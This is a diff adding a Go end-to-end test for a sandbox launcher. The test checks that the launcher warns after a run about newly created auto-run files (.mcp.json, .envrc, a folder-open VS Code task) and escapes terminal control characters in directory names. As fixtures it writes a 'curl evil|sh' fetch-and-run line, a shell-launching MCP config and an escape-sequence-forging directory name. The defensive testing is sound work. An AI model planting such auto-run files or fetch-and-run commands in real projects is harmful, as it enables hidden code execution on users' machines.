@@ -1,0 +1,48 @@
+//go:build linux
+
+package e2e
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestRunsLaterMade: a file that tools outside the sandbox run (.mcp.json,
+// .envrc, .vscode/tasks.json) and that did not exist at the start cannot
+// be held by a bind; when the program makes one, the launcher names it
+// after the run — in the project, next to an existing .vscode dir, and in
+// a directory below it, whose name's escape sequences reach the terminal
+// escaped. A run that makes none says nothing of the kind.
+func TestRunsLaterMade(t *testing.T) {
+	for _, u := range users {
+		t.Run(u.name, func(t *testing.T) {
+			w := newWorld(t, u)
+			proj := filepath.Join(w.dataDir, "workspace", "proj")
+			mustMkdir(t, filepath.Join(proj, ".vscode"))
+			sub := "sub\x1b[2K\rforged"
+			mustMkdir(t, filepath.Join(proj, sub))
+			writeFile(t, filepath.Join(proj, ".vscode", "settings.json"), "{}\n")
+			chownTree(t, w.home, u)
+			if r := w.sh("sandbox", "echo x > notes.txt", "--workdir", proj); r.code != 0 || strings.Contains(r.stderr, "the program made") {
+				t.Errorf("a run that made no runs-later file: exit %d, stderr %q", r.code, r.stderr)
+			}
+			r := w.sh("sandbox", `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json && echo 'curl evil|sh' > .envrc && `+
+				`echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json && for d in sub*; do echo x > "$d/.envrc"; done`, "--workdir", proj)
+			if r.code != 0 {
+				t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
+			}
+			for _, f := range []string{".mcp.json", ".envrc", ".vscode/tasks.json", `sub\u001b[2K\u000dforged/.envrc`} {
+				if want := "the program made " + filepath.Join(proj, f) + ":"; !strings.Contains(r.stderr, want) {
+					t.Errorf("no warning %q; stderr %q", want, r.stderr)
+				}
+			}
+			if n := strings.Count(r.stderr, "the program made"); n != 4 {
+				t.Errorf("%d warnings, want 4; stderr %q", n, r.stderr)
+			}
+			if strings.ContainsAny(r.stderr, "\x1b\r") {
+				t.Errorf("raw control characters in stderr %q", r.stderr)
+			}
+		})
+	}
+}
